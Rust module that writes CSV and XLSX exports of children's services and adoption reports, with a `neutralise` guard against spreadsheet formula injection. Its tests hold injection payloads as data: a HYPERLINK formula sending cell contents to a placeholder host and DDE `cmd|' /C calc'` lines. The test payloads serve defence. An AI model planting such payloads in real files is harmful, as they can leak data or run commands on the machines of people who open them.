//! CSV exports of the reports: `GET /export/{report}.csv?…` with the bearer token.
//!
//! An export calls the report's use case in [`crate::service`] — the one its GraphQL field
//! calls, so it has the same checks, access rules, disclosure control, report cache and
//! audit (`EXPORT`: the request is marked as an export) — and writes the published report
//! as CSV. A suppressed figure is written as `c`, a figure that does not exist as an empty
//! cell; numbers are written as the GraphQL answer writes them (`50.0`, percentages and
//! means to one decimal place). The tracking export reads every alert, [`TRACKING_PAGE`] at
//! a time.
//!
//! Parameters are parsed here, with the messages the GraphQL field's arguments would get;
//! authorities are named by their codes.
//!
//! Every cell of every export passes through [`neutralise`] (OWASP's advice on CSV
//! injection): a text that a spreadsheet would read as a formula — one starting with `=`,
//! `+`, `-`, `@`, a tab, a carriage return or a line feed — is written with a leading `'`,
//! so that it opens as the text it is. A cell that is a plain number (a negative `gap` of
//! the sufficiency report, `-3`) is a figure, not a formula, and is written as it is.
//!
//! | report | parameters |
//! | --- | --- |
//! | `scorecard` | `asOf`, `from` + `to`, `authorities` (codes, comma-separated) |
//! | `tracking` | `asOf`, `kinds` (comma-separated) |
//! | `sufficiency` | `asOf`, `authorities` |
//! | `funnel` | `from` + `to` (required), `asOf`, `authorities`, `groupBy` (comma-separated) |
//! | `flows` | `from` + `to` (required), `authorities` |
//! | `asglb-adoptions`, `asglb-adopters` (CSV), `asglb` (`.xlsx`, both tabs) | `quarter` (a quarter end), `authorities` |
//!
//! The ASGLB return ([`asglb`]) is child-level: a row per child or household, not figures.
use std::borrow::Cow;
use std::collections::HashMap;

use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use chrono::NaiveDate;

use crate::domain::Coded;
use crate::domain::disclosure::{Shown, one_decimal};
use crate::domain::funnel::{FunnelGroupBy, PublishedGroup};
use crate::domain::period::parse_date;
use crate::domain::scorecard::{ChildAlertKind, PublishedFigures, PublishedPeriod};
use crate::error::{AppError, AppResult};
use crate::service::asglb::{Tab, asglb_return};
use crate::service::board::{self, FlowsReport, ScorecardReport, SufficiencyReport, TrackedAlert};
use crate::service::reports::{self, FunnelReport, NamedAuthorities};
use crate::service::{Page, Service};

mod asglb;

/// A report that can be exported.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Report {
    Scorecard,
    Tracking,
    Sufficiency,
    Funnel,
    Flows,
    /// The ASGLB return's Adoptions tab, as CSV.
    AsglbAdoptions,
    /// The ASGLB return's Adopters tab, as CSV.
    AsglbAdopters,
    /// The ASGLB return, both tabs and notes, as an `.xlsx` workbook.
    AsglbWorkbook,
}

impl Report {
    /// The report named by the file name (`scorecard.csv`, `asglb.xlsx`).
    pub fn from_file(file: &str) -> Option<Report> {
        if file == "asglb.xlsx" {
            return Some(Report::AsglbWorkbook);
        }
        match file.strip_suffix(".csv")? {
            "scorecard" => Some(Report::Scorecard),
            "tracking" => Some(Report::Tracking),
            "sufficiency" => Some(Report::Sufficiency),
            "funnel" => Some(Report::Funnel),
            "flows" => Some(Report::Flows),
            "asglb-adoptions" => Some(Report::AsglbAdoptions),
            "asglb-adopters" => Some(Report::AsglbAdopters),
            _ => None,
        }
    }

    /// The GraphQL field of the report: a refusal's `DENIED` audit names it as its path.
    pub fn field(self) -> &'static str {
        match self {
            Report::Scorecard => "scorecard",
            Report::Tracking => "trackingAlerts",
            Report::Sufficiency => "sufficiency",
            Report::Funnel => "recruitmentFunnel",
            Report::Flows => "crossBoundaryFlows",
            Report::AsglbAdoptions | Report::AsglbAdopters | Report::AsglbWorkbook => "asglbReturn",
        }
    }

    /// The tabs of the ASGLB return it writes (none for the other reports).
    fn tabs(self) -> &'static [Tab] {
        match self {
            Report::AsglbAdoptions => &[Tab::Adoptions],
            Report::AsglbAdopters => &[Tab::Adopters],
            Report::AsglbWorkbook => &[Tab::Adoptions, Tab::Adopters],
            _ => &[],
        }
    }
}

/// How an export names what it lists: authorities by their codes (`None` if the directory
/// does not know one), children and households by their ids in the API.
pub struct Names<'a> {
    pub authority: &'a (dyn Fn(i64) -> Option<String> + Sync),
    pub child: &'a (dyn Fn(i64) -> String + Sync),
    pub household: &'a (dyn Fn(i64) -> String + Sync),
}

/// How many tracking alerts the export reads at a time.
pub const TRACKING_PAGE: u64 = 100;

/// The parameters of an export, parsed.
#[derive(Debug, Default, PartialEq)]
pub struct Params {
    as_of: Option<NaiveDate>,
    period: Option<(NaiveDate, NaiveDate)>,
    /// The authorities named (as ids), if any.
    authorities: Option<Vec<i64>>,
    kinds: Option<Vec<ChildAlertKind>>,
    group_by: Vec<FunnelGroupBy>,
    /// The ASGLB return's quarter end.
    quarter: Option<NaiveDate>,
}

/// Parses the query-string parameters of `report`. `authority_id` maps an authority code
/// to its id (`None` if the actor's consortium has no such authority: `NOT_FOUND`).
pub fn params(
    report: Report,
    raw: &HashMap<String, String>,
    authority_id: impl Fn(&str) -> Option<i64>,
) -> AppResult<Params> {
    let period = match (raw.get("from"), raw.get("to")) {
        (Some(from), Some(to)) => Some((from, to)),
        (None, None) => None,
        _ => return Err(AppError::bad_input("from", "give both from and to")),
    };
    let authorities = match raw.get("authorities") {
        Some(codes) => Some(
            list(codes, "authorities")?
                .into_iter()
                .map(|code| authority_id(code).ok_or(AppError::NotFound))
                .collect::<AppResult<Vec<i64>>>()?,
        ),
        None => None,
    };
    let period = match report {
        Report::Flows | Report::Funnel => Some(period.ok_or_else(|| no_period(report))?),
        _ => period,
    };
    let group_by = match report {
        Report::Funnel => raw
            .get("groupBy")
            .map(|v| enums(v, "groupBy"))
            .transpose()?
            .unwrap_or_default(),
        _ => Vec::new(),
    };
    let kinds = match report {
        Report::Tracking => raw.get("kinds").map(|v| enums(v, "kinds")).transpose()?,
        _ => None,
    };
    let quarter = match report.tabs() {
        [] => None,
        _ => raw
            .get("quarter")
            .map(|d| date(d, "quarter", false))
            .transpose()?,
    };
    // Flows and the ASGLB return are not read as at a date.
    let as_of = match report {
        Report::Flows => None,
        _ if !report.tabs().is_empty() => None,
        _ => raw
            .get("asOf")
            .map(|d| date(d, "asOf", false))
            .transpose()?,
    };
    // Only the reports over a period read it.
    let period = match report {
        Report::Scorecard | Report::Flows | Report::Funnel => period
            .map(|(from, to)| AppResult::Ok((date(from, "from", true)?, date(to, "to", true)?)))
            .transpose()?,
        _ => None,
    };
    Ok(Params {
        as_of,
        period,
        // The tracking alerts are of the actor's own authorities.
        authorities: authorities.filter(|_| report != Report::Tracking),
        kinds,
        group_by,
        quarter,
    })
}

/// The refusal of a report over a period asked for without one.
fn no_period(report: Report) -> AppError {
    let message = match report {
        Report::Flows => "flows need from and to",
        _ => "the funnel needs from and to",
    };
    AppError::bad_input("from", message)
}

/// The items of a comma-separated list, trimmed, the empty ones left out.
/// The most items a comma-separated parameter may list: GraphQL's default bound on the
/// length of an argument's list (`PERMANENCE_MAX_LIST_LENGTH`).
pub const MAX_LIST_ITEMS: usize = 100;

/// The items of a comma-separated parameter; more than [`MAX_LIST_ITEMS`] are refused (on
/// `field`) before any is read.
fn list<'v>(value: &'v str, field: &str) -> AppResult<Vec<&'v str>> {
    let items: Vec<&str> = value
        .split(',')
        .map(str::trim)
        .filter(|x| !x.is_empty())
        .take(MAX_LIST_ITEMS + 1)
        .collect();
    if items.len() > MAX_LIST_ITEMS {
        return Err(AppError::bad_input(
            field,
            format!("{field} lists at most {MAX_LIST_ITEMS} items"),
        ));
    }
    Ok(items)
}

/// A date parameter, refused as the GraphQL `Date` scalar refuses it (on `field`); one of a
/// period as part of the period input.
fn date(text: &str, field: &str, in_period: bool) -> AppResult<NaiveDate> {
    parse_date(text).ok_or_else(|| {
        let within = if in_period {
            r#" (occurred while parsing "PeriodInput")"#
        } else {
            ""
        };
        AppError::bad_input(
            field,
            format!(
                r#"Failed to parse "Date": expected a date as YYYY-MM-DD (year 0001 or later){within}"#
            ),
        )
    })
}

/// A list of GraphQL enum values (`kinds`, `groupBy`), refused as the GraphQL argument
/// would refuse it (on `field`).
fn enums<T: Coded>(value: &str, field: &str) -> AppResult<Vec<T>> {
    list(value, field)?
        .into_iter()
        .enumerate()
        .map(|(i, name)| {
            T::from_code(name).ok_or_else(|| {
                AppError::bad_input(
                    field,
                    format!(
                        r#"Invalid value for argument "{field}.{i}", enumeration type "{}" does not contain the value "{name}""#,
                        T::TYPE_NAME
                    ),
                )
            })
        })
        .collect()
}

/// The authorities named, as the services read them.
fn named(ids: &Option<Vec<i64>>) -> Option<impl NamedAuthorities + '_> {
    ids.as_ref().map(|ids| ids.iter().map(|id| Ok(*id)))
}

/// Runs `report` as the request of `svc` and writes it as CSV (the ASGLB workbook as
/// `.xlsx`), naming authorities and records by `names`.
pub async fn run(
    svc: &Service<'_>,
    report: Report,
    params: &Params,
    names: &Names<'_>,
) -> AppResult<Vec<u8>> {
    let code = names.authority;
    let child_id = names.child;
    let csv = match report {
        Report::Scorecard => {
            let report =
                board::scorecard(svc, params.as_of, params.period, named(&params.authorities))
                    .await?;
            scorecard_csv(&report.value, &code)
        }
        Report::Tracking => {
            let scope =
                reports::alert_scope(svc, params.as_of, params.kinds.clone(), named(&None))?;
            let mut alerts = Vec::new();
            let mut offset = 0;
            loop {
                let page = Page {
                    offset,
                    limit: TRACKING_PAGE,
                    after_id: None,
                };
                let (items, total) = board::tracking_alerts(svc, &scope, page).await?;
                alerts.extend(items);
                offset += TRACKING_PAGE;
                if offset >= total {
                    break;
                }
            }
            tracking_csv(&alerts, &code, &child_id)
        }
        Report::Sufficiency => {
            let report = board::sufficiency(svc, params.as_of, named(&params.authorities)).await?;
            sufficiency_csv(&report.value)
        }
        Report::Flows => {
            let period = params.period.ok_or_else(|| no_period(report))?;
            let report =
                board::cross_boundary_flows(svc, period, named(&params.authorities)).await?;
            flows_csv(&report, &code)
        }
        Report::Funnel => {
            let period = params.period.ok_or_else(|| no_period(report))?;
            let report = reports::funnel(
                svc,
                period,
                params.as_of,
                named(&params.authorities),
                params.group_by.clone(),
            )
            .await?;
            funnel_csv(&report.value, &code)
        }
        Report::AsglbAdoptions | Report::AsglbAdopters | Report::AsglbWorkbook => {
            let r = asglb_return(
                svc,
                params.quarter,
                params.authorities.clone(),
                report.tabs(),
            )
            .await?;
            if report == Report::AsglbWorkbook {
                return asglb::workbook(&r, names, svc.today())
                    .map_err(|e| AppError::from(anyhow::Error::from(e)));
            }
            asglb::csv(&r, names)
        }
    };
    csv.map_err(|e| AppError::from(anyhow::Error::from(e)))
}

/// A count as a CSV cell: `c` when suppressed, empty when absent.
fn count<T: ToString>(figure: Shown<T>) -> String {
    if figure.suppressed {
        return "c".into();
    }
    figure.value.map(|v| v.to_string()).unwrap_or_default()
}

/// A percentage, mean or median as a CSV cell: to one decimal place, written as the GraphQL
/// answer writes it (`50.0`); `c` when suppressed, empty when absent.
fn number(figure: Shown<f64>) -> String {
    if figure.suppressed {
        return "c".into();
    }
    figure
        .value
        .and_then(|v| serde_json::Number::from_f64(one_decimal(v)))
        .map(|n| n.to_string())
        .unwrap_or_default()
}

/// An optional value as a CSV cell: empty when absent.
fn optional<T: ToString>(value: Option<T>) -> String {
    value.map(|v| v.to_string()).unwrap_or_default()
}

/// A day as the API writes it.
fn day(d: NaiveDate) -> String {
    d.format("%Y-%m-%d").to_string()
}

/// The characters a spreadsheet starts a formula (or a DDE command) with, the full-width
/// forms too.
const FORMULA_STARTS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// `cell` made safe to open in a spreadsheet: prefixed with `'` when it starts — or starts
/// after spaces — with a character of [`FORMULA_STARTS`], unless it is a plain number such as
/// `-3` or `-2.5`. The CSV writer then quotes it as needed (a cell holding `"`, `,`, CR or
/// LF is quoted, inner quotes doubled).
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let visible = cell.trim_start_matches(' ');
    let risky = visible.starts_with(FORMULA_STARTS);
    if risky && !is_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether `cell` is a plain decimal number: an optional `-`, digits, and optionally a `.`
/// and more digits.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// A CSV writer whose every cell goes through [`neutralise`].
struct Cells(csv::Writer<Vec<u8>>);

impl Cells {
    fn new() -> Cells {
        Cells(csv::Writer::from_writer(Vec::new()))
    }

    fn write_record<I, T>(&mut self, record: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.0.write_record(
            record
                .into_iter()
                .map(|c| neutralise(c.as_ref()).into_owned()),
        )
    }

    fn finish(self) -> Result<Vec<u8>, csv::Error> {
        self.0.into_inner().map_err(|e| e.into_error().into())
    }
}

/// The scorecard: a row per measure of each authority and the total, for the period and
/// then each of its years, each with whether disclosure control applies to its figure set.
fn scorecard_csv(
    report: &ScorecardReport,
    code: &impl Fn(i64) -> Option<String>,
) -> Result<Vec<u8>, csv::Error> {
    let mut w = Cells::new();
    w.write_record([
        "period_from",
        "period_to",
        "authority",
        "measure",
        "value",
        "cohort",
        "threshold_days",
        "met",
        "suppression_applied",
    ])?;
    let periods: Vec<&PublishedPeriod> = std::iter::once(&report.period)
        .chain(report.years.iter())
        .collect();
    for p in periods {
        let from = day(p.from);
        let to = day(p.to);
        let rows: Vec<&PublishedFigures> = std::iter::once(&p.total)
            .chain(p.authorities.iter())
            .collect();
        for f in rows {
            let who = f.authority.and_then(code).unwrap_or_else(|| "TOTAL".into());
            let applied = f.suppression_applied.to_string();
            let cohort = count(f.cohort);
            w.write_record([
                &from, &to, &who, "COHORT", &cohort, &cohort, "", "", &applied,
            ])?;
            for (measure, m) in [("A1", &f.a1), ("A10", &f.a10), ("A2", &f.a2)] {
                w.write_record([
                    &from,
                    &to,
                    &who,
                    measure,
                    &count(m.days),
                    &count(m.cohort),
                    &m.threshold_days.to_string(),
                    &optional(m.met),
                    &applied,
                ])?;
            }
            let a3 = &f.a3;
            w.write_record([
                &from,
                &to,
                &who,
                "A3",
                &count(a3.count),
                &count(a3.cohort),
                &a3.threshold_days.to_string(),
                "",
                &applied,
            ])?;
            w.write_record([
                &from,
                &to,
                &who,
                "A3_PERCENT",
                &number(a3.percent),
                &count(a3.cohort),
                "",
                "",
                &applied,
            ])?;
        }
    }
    w.finish()
}

/// The tracking alerts, a row each.
fn tracking_csv(
    alerts: &[TrackedAlert],
    code: &impl Fn(i64) -> Option<String>,
    child_id: &impl Fn(i64) -> String,
) -> Result<Vec<u8>, csv::Error> {
    let mut w = Cells::new();
    w.write_record([
        "child_id",
        "profile_name",
        "authority",
        "alert",
        "since",
        "days_overdue",
        "projected_a1_days",
        "projected_over_threshold",
    ])?;
    for a in alerts {
        w.write_record([
            child_id(a.child.id),
            a.child.profile_name.clone(),
            code(a.child.authority_id).unwrap_or_default(),
            a.alert.kind.code().to_owned(),
            day(a.alert.since),
            a.alert.days_overdue.to_string(),
            optional(a.projected_a1_days),
            a.projected_over_threshold().to_string(),
        ])?;
    }
    w.finish()
}

/// Sufficiency, a row per characteristic; a gap not shown is `c` when a figure it is made
/// of is suppressed.
fn sufficiency_csv(report: &SufficiencyReport) -> Result<Vec<u8>, csv::Error> {
    let mut w = Cells::new();
    w.write_record([
        "as_of",
        "characteristic",
        "children",
        "units",
        "households",
        "gap",
    ])?;
    for r in &report.rows {
        let gap = match r.gap {
            None if r.units.suppressed || r.households.suppressed => "c".to_owned(),
            gap => optional(gap),
        };
        w.write_record([
            day(report.as_of),
            r.characteristic.code().to_owned(),
            count(r.children),
            count(r.units),
            count(r.households),
            gap,
        ])?;
    }
    w.finish()
}

/// The flows: a row per pair of authorities, the total, and the cross-boundary figures.
fn flows_csv(
    report: &FlowsReport,
    code: &impl Fn(i64) -> Option<String>,
) -> Result<Vec<u8>, csv::Error> {
    let f = &report.flows;
    let mut w = Cells::new();
    w.write_record([
        "child_authority",
        "household_authority",
        "children",
        "fees_pence",
        "children_percent",
    ])?;
    let authority = |id: i64| code(id).unwrap_or_default();
    let total = || "TOTAL".to_owned();
    let mut figures = |child: String, household: String, children, fees, percent| {
        w.write_record([child, household, count(children), count(fees), percent])
    };
    for c in &f.cells {
        figures(
            authority(c.child_authority),
            authority(c.household_authority),
            c.children,
            c.fees_pence,
            String::new(),
        )?;
    }
    // The margins: each authority's children placed anywhere, then the children each
    // authority's households took from anywhere.
    for t in &f.by_child_authority {
        let child = t.authority.map(authority).unwrap_or_default();
        figures(child, total(), t.children, t.fees_pence, String::new())?;
    }
    for t in &f.by_household_authority {
        let household = t.authority.map(authority).unwrap_or_default();
        figures(total(), household, t.children, t.fees_pence, String::new())?;
    }
    figures(
        total(),
        total(),
        f.total.children,
        f.total.fees_pence,
        String::new(),
    )?;
    figures(
        "CROSS_BOUNDARY".to_owned(),
        String::new(),
        f.cross_boundary_children,
        f.cross_boundary_fees_pence,
        number(f.cross_boundary_percent),
    )?;
    w.finish()
}

/// The funnel: the total, then each group, a row per figure.
fn funnel_csv(
    report: &FunnelReport,
    code: &impl Fn(i64) -> Option<String>,
) -> Result<Vec<u8>, csv::Error> {
    let mut w = Cells::new();
    w.write_record([
        "authority",
        "channel",
        "enquiry_month",
        "section",
        "item",
        "detail",
        "measure",
        "value",
    ])?;
    let groups =
        std::iter::once((true, &report.total)).chain(report.groups.iter().map(|g| (false, g)));
    for (is_total, g) in groups {
        funnel_group(&mut w, is_total, g, code)?;
    }
    w.finish()
}

fn funnel_group(
    w: &mut Cells,
    is_total: bool,
    g: &PublishedGroup,
    code: &impl Fn(i64) -> Option<String>,
) -> Result<(), csv::Error> {
    let key = [
        if is_total {
            "TOTAL".to_owned()
        } else {
            g.authority.and_then(code).unwrap_or_default()
        },
        g.channel.map(|c| c.code().to_owned()).unwrap_or_default(),
        g.enquiry_month.clone().unwrap_or_default(),
    ];
    let mut row = |section: &str, item: &str, detail: &str, measure: &str, value: String| {
        w.write_record([
            &key[0], &key[1], &key[2], section, item, detail, measure, &value,
        ])
    };
    for s in &g.stage_counts {
        row("stage_counts", s.stage.code(), "", "count", count(s.count))?;
    }
    let c = &g.cohort;
    for (item, figure) in [
        ("size", c.size),
        ("fastTrack", c.fast_track),
        ("approved", c.approved),
        ("leftBeforeApproval", c.left_before_approval),
        ("inProgress", c.in_progress),
        ("onHold", c.on_hold),
    ] {
        row("cohort", item, "", "count", count(figure))?;
    }
    for s in &c.stages {
        let stage = s.stage.code().to_owned();
        row("cohort_stage", &stage, "", "reached", count(s.reached))?;
        row("cohort_stage", &stage, "", "eligible", count(s.eligible))?;
        row(
            "cohort_stage",
            &stage,
            "",
            "from_previous_percent",
            number(s.from_previous),
        )?;
        row(
            "cohort_stage",
            &stage,
            "",
            "from_enquiry_percent",
            number(s.from_enquiry),
        )?;
    }
    for e in &c.exits {
        row(
            "cohort_exit",
            e.stage.code(),
            e.reason.map(|r| r.code()).unwrap_or_default(),
            "count",
            count(e.count),
        )?;
    }
    for l in &c.left_after {
        row(
            "cohort_left_after",
            l.stage.code(),
            "",
            "count",
            count(l.count),
        )?;
    }
    for t in &g.timeliness {
        let step = t.step.code().to_owned();
        row("timeliness", &step, "", "count", count(t.count))?;
        row(
            "timeliness",
            &step,
            "",
            "target_months",
            optional(t.target_months),
        )?;
        row("timeliness", &step, "", "mean_days", number(t.mean_days))?;
        row(
            "timeliness",
            &step,
            "",
            "median_days",
            number(t.median_days),
        )?;
        row(
            "timeliness",
            &step,
            "",
            "within_target_percent",
            number(t.within_target),
        )?;
    }
    Ok(())
}

/// The HTTP status of a report's error code.
pub fn status_of(code: &str) -> StatusCode {
    match code {
        "UNAUTHENTICATED" => StatusCode::UNAUTHORIZED,
        "FORBIDDEN" => StatusCode::FORBIDDEN,
        "NOT_FOUND" => StatusCode::NOT_FOUND,
        "BAD_USER_INPUT" => StatusCode::BAD_REQUEST,
        "RATE_LIMITED" => StatusCode::TOO_MANY_REQUESTS,
        "UNAVAILABLE" => StatusCode::SERVICE_UNAVAILABLE,
        _ => StatusCode::INTERNAL_SERVER_ERROR,
    }
}

/// The content type of an export file: CSV, or the ASGLB workbook.
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// An export's response, named after its file (`scorecard.csv`, `asglb.xlsx`).
pub fn file_response(file: &str, body: Vec<u8>) -> Response {
    let mut response = (StatusCode::OK, body).into_response();
    let headers = response.headers_mut();
    let content_type = if file.ends_with(".xlsx") {
        XLSX
    } else {
        "text/csv; charset=utf-8"
    };
    headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    if let Ok(v) = HeaderValue::from_str(&format!("attachment; filename=\"{file}\"")) {
        headers.insert(header::CONTENT_DISPOSITION, v);
    }
    response
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_a_spreadsheet_would_run_is_written_as_text() {
        for cell in [
            r#"=HYPERLINK("http://x?"&A1,"Click")"#,
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "  =1+1",
            "\u{FF1D}1+1",
            "-",
            "-3x",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn ordinary_text_and_numbers_are_left_as_they_are() {
        for cell in [
            "",
            "alder",
            "c",
            "Ruby",
            "A=B",
            "2024-06-30",
            "-3",
            "-2.5",
            "0",
            "12.5",
            "TOTAL",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn a_neutralised_cell_is_quoted_with_its_quotes_doubled() {
        let mut w = Cells::new();
        w.write_record([
            "Q2hpbGQ6MQ",
            r#"=HYPERLINK("http://x?"&A1,"Click")"#,
            "alder",
            "-3",
        ])
        .unwrap();
        let csv = String::from_utf8(w.finish().unwrap()).unwrap();
        assert_eq!(
            csv.lines().next(),
            Some(r#"Q2hpbGQ6MQ,"'=HYPERLINK(""http://x?""&A1,""Click"")",alder,-3"#),
            "{csv}"
        );
    }

    #[test]
    fn figures_are_written_as_the_api_writes_them() {
        assert_eq!(count(Shown::visible(4u64)), "4");
        assert_eq!(count(Shown::<u64>::withheld()), "c");
        assert_eq!(count(Shown::<u64>::absent()), "");
        assert_eq!(number(Shown::visible(50.0)), "50.0");
        assert_eq!(number(Shown::visible(100.0 / 3.0)), "33.3");
        assert_eq!(number(Shown::<f64>::withheld()), "c");
        assert_eq!(number(Shown::<f64>::absent()), "");
        assert_eq!(
            ChildAlertKind::InCareOver426DaysNotPlaced.code().to_owned(),
            "IN_CARE_OVER_426_DAYS_NOT_PLACED"
        );
    }

    #[test]
    fn parameters_are_refused_as_the_api_refuses_arguments() {
        let raw = |pairs: &[(&str, &str)]| -> HashMap<String, String> {
            pairs
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect()
        };
        let id = |code: &str| (code == "alder").then_some(7);
        let message = |r: AppResult<Params>| r.err().map(|e| e.client_message());
        assert_eq!(
            message(params(Report::Funnel, &raw(&[("from", "2024-01-01"), ("to", "2024-12-31"), ("groupBy", "CHANNEL,FOO")]), id)),
            Some(r#"Invalid value for argument "groupBy.1", enumeration type "FunnelGroupBy" does not contain the value "FOO""#.into())
        );
        assert_eq!(
            message(params(Report::Tracking, &raw(&[("kinds", "NOPE")]), id)),
            Some(r#"Invalid value for argument "kinds.0", enumeration type "ChildAlertKind" does not contain the value "NOPE""#.into())
        );
        assert_eq!(
            message(params(
                Report::Scorecard,
                &raw(&[("from", "2024-01-01")]),
                id
            )),
            Some("give both from and to".into())
        );
        assert!(matches!(
            params(Report::Scorecard, &raw(&[("authorities", "alder,oak")]), id),
            Err(AppError::NotFound)
        ));
        let many = vec!["alder"; MAX_LIST_ITEMS + 1].join(",");
        for (report, key) in [
            (Report::Scorecard, "authorities"),
            (Report::Tracking, "kinds"),
        ] {
            assert_eq!(
                message(params(report, &raw(&[(key, &many)]), id)),
                Some(format!("{key} lists at most {MAX_LIST_ITEMS} items")),
                "{key}"
            );
        }
        let enough = vec!["alder"; MAX_LIST_ITEMS].join(",");
        assert!(params(Report::Scorecard, &raw(&[("authorities", &enough)]), id).is_ok());
        assert_eq!(
            params(
                Report::Funnel,
                &raw(&[
                    ("from", "2024-01-01"),
                    ("to", "2024-12-31"),
                    ("authorities", "alder"),
                    ("groupBy", "AUTHORITY")
                ]),
                id
            )
            .ok(),
            Some(Params {
                as_of: None,
                period: NaiveDate::from_ymd_opt(2024, 1, 1)
                    .zip(NaiveDate::from_ymd_opt(2024, 12, 31)),
                authorities: Some(vec![7]),
                kinds: None,
                group_by: vec![FunnelGroupBy::Authority],
                quarter: None,
            })
        );
    }
}
